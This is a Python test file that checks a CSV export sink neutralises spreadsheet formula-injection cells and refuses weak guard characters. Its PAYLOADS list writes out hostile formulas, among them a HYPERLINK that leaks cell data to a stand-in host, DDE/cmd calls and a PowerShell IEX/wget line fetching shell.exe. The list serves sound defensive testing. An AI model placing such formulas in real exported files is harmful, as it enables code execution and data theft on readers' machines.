"""Spreadsheet formula injection: the csv sink neutralises dangerous cells unless told not to."""

from __future__ import annotations

import csv
import logging
import re
from pathlib import Path

import pytest
from pydantic import ValidationError

from elspeth import Failure, PluginContext, Record, RunMetadata, RunResult
from elspeth.builtins.sinks import CsvSink
from elspeth.spreadsheet import is_formula_like, neutralise_formula

# Written independently of elspeth.spreadsheet, so the tests check the rule rather than restate it.
DANGEROUS_START = re.compile(r"^[\s\ufeff\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]")

PAYLOADS = [
    '=HYPERLINK("http://127.0.0.1/steal?x="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 127.0.0.1/shell.exe)'!A0",
    "+SUM(1+1)",
    "-2+3",
    "-5",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://127.0.0.1/?", A2), "//a")',
    "\uff1d1+1",  # full-width equals sign
    "\uff0bSUM(1)",  # full-width plus
    "\ufeff=1+1",  # a byte-order mark in front
    "  =1+1",  # leading spaces
    "\u200b@SUM(1)",  # zero-width space in front
]
SAFE = ["plain text", "", "   ", "5", "1+1=2", "a=b", "'=already guarded", "café 日本語"]


def _ctx(tmp_path: Path) -> PluginContext:
    return PluginContext(run_id="r", name="safety", base_dir=tmp_path, output_dir=tmp_path / "out")


def _result() -> RunResult:
    records = [
        Record(
            row_id=f"r{i}",
            inputs={"payload": payload, payload: "header is a payload"},
            outputs={"response": payload},
            metrics={"delta": -5, "ratio": -0.25, "label": payload},
        )
        for i, payload in enumerate(PAYLOADS)
    ]
    failures = [
        Failure(row_id=f"f{i}", inputs={"payload": payload}, stage="llm", error=payload)
        for i, payload in enumerate(PAYLOADS)
    ]
    metadata = RunMetadata(run_id="r", name="safety", orchestrator="test", succeeded=len(records))
    return RunResult(records=records, failures=failures, aggregates={}, metadata=metadata)


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_gets_the_guard_in_front(payload: str) -> None:
    assert neutralise_formula(payload) == "'" + payload
    assert neutralise_formula(payload, "|") == "|" + payload


@pytest.mark.parametrize("value", SAFE)
def test_harmless_text_is_left_alone(value: str) -> None:
    assert not is_formula_like(value)
    assert neutralise_formula(value) == value


@pytest.mark.parametrize("value", [-5, -0.25, 0, True, None, float("-inf")])
def test_numbers_and_other_non_strings_are_never_changed(value: object) -> None:
    assert neutralise_formula(value) is value


def test_neutralising_twice_changes_nothing_more() -> None:
    for payload in PAYLOADS:
        once = neutralise_formula(payload)
        assert neutralise_formula(once) == once


def test_csv_sink_neutralises_headers_cells_and_failures_by_default(tmp_path: Path) -> None:
    sink = CsvSink(CsvSink.Options.model_validate({"failures_path": "failures.csv"}))
    results, failures = sink.write(_result(), _ctx(tmp_path))

    rows = _cells(results.path)
    header = rows[0]
    for payload in PAYLOADS:
        assert "'" + payload in header, "a column named by a payload must be guarded too"
    numeric = {header.index("delta"), header.index("ratio")}
    for row in rows:
        for i, cell in enumerate(row):
            if i in numeric and row is not header:
                continue
            assert not DANGEROUS_START.match(cell), f"cell {cell!r} of {results.path.name} could run as a formula"
    response = [r[header.index("response")] for r in rows[1:]]
    assert response == ["'" + p for p in PAYLOADS]
    assert {r[header.index("delta")] for r in rows[1:]} == {"-5"}, "negative numbers must stay numbers"
    assert {r[header.index("ratio")] for r in rows[1:]} == {"-0.25"}

    for row in _cells(failures.path):
        for cell in row:
            assert not DANGEROUS_START.match(cell), f"cell {cell!r} of {failures.path.name} could run as a formula"


def test_csv_sink_writes_payloads_verbatim_only_when_told_and_warns(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    sink = CsvSink(CsvSink.Options.model_validate({"sanitize_formulas": False}))
    with caplog.at_level(logging.WARNING, logger="elspeth"):
        (artifact,) = sink.write(_result(), _ctx(tmp_path))
    rows = _cells(artifact.path)
    assert [r[rows[0].index("response")] for r in rows[1:]] == PAYLOADS
    warnings = [r for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 1
    assert "sanitize_formulas: false" in warnings[0].getMessage()
    assert "results.csv" in warnings[0].getMessage()


def test_csv_sink_does_not_warn_when_neutralising(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="elspeth"):
        CsvSink(CsvSink.Options()).write(_result(), _ctx(tmp_path))
    assert not [r for r in caplog.records if r.levelno >= logging.WARNING]


def test_csv_sink_uses_the_configured_guard(tmp_path: Path) -> None:
    sink = CsvSink(CsvSink.Options.model_validate({"sanitize_guard": "|"}))
    (artifact,) = sink.write(_result(), _ctx(tmp_path))
    rows = _cells(artifact.path)
    assert rows[1][rows[0].index("response")] == "|" + PAYLOADS[0]


@pytest.mark.parametrize(
    ("guard", "why"),
    [("", "exactly one character"), ("''", "exactly one character"), ("=", "would not protect"), (" ", "protect")],
)
def test_a_guard_that_cannot_protect_is_refused_naming_the_option(guard: str, why: str) -> None:
    with pytest.raises(ValidationError) as caught:
        CsvSink.Options.model_validate({"sanitize_guard": guard})
    (error,) = caught.value.errors()
    assert error["loc"] == ("sanitize_guard",)
    assert why in error["msg"]
